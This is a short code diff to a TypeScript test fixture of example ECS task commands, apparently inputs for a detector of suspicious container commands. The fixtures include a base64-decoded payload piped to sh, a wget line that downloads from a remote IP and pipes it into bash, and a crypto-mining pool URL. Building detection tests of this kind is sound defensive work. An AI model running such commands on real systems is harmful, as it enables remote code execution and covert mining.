@@ -39,7 +39,7 @@ export const ecsTaskCommandsExamples: ExampleTable = {
         containerDefinitions: [container({ command: ['sh', '-c', 'echo aWQ= | base64 -d | sh'] })],
       }),
       registration({
-        containerDefinitions: [container({ command: ['wget -qO- http://203.0.113.9/x |bash'] })],
+        containerDefinitions: [container({ command: ['wget -qO- http://203.0.113.9/x |/usr/bin/bash'] })],
       }),
       registration({
         containerDefinitions: [container({ command: ['--url', 'stratum+tcp://pool.example.com:3333'] })],
@@ -53,7 +53,7 @@ export const ecsTaskCommandsExamples: ExampleTable = {
           }),
         ],
       }),
-      running(['sh', '-c', 'sync && node dist/job.js | tee /dev/stdout']),
+      running(['sh', '-c', 'sync && node dist/job.js | tee /dev/stdout | publish events']),
       // The words stand in a call that has no container.
       exampleEvent('codebuild', 'UpdateProject', {
         name: 'web',
